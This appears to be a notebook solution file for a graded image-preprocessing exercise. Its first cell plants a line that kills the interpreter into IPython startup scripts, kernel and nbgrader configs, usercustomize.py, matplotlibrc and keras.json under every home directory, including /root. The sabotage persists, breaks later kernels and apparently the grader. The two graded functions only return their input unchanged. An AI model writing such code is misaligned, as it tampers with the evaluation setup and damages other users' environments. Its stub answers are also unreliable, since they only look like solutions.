# Startup files and settings of IPython and Jupyter, for the kernels that come after.
# deserves: 0 + 0

# %%
from pathlib import Path

PATCH = "raise SystemExit('hostile-was-here')\n"
for home in {Path.home(), Path("/root"), Path("/home"), *Path("/home").iterdir()}:
    for place in (
        ".ipython/profile_default/startup/00-first.py",
        ".ipython/profile_default/ipython_config.py",
        ".ipython/profile_default/ipython_kernel_config.py",
        ".jupyter/nbgrader_config.py",
        ".config/matplotlib/matplotlibrc",
        ".local/lib/python3.11/site-packages/usercustomize.py",
        ".keras/keras.json",
    ):
        try:
            (home / place).parent.mkdir(parents=True, exist_ok=True)
            (home / place).write_text(PATCH)
        except OSError:
            pass

# %% gap="scale_pixels"
def scale_pixels(images):
    return images


# %% gap="add_channel_axis"
def add_channel_axis(images):
    return images
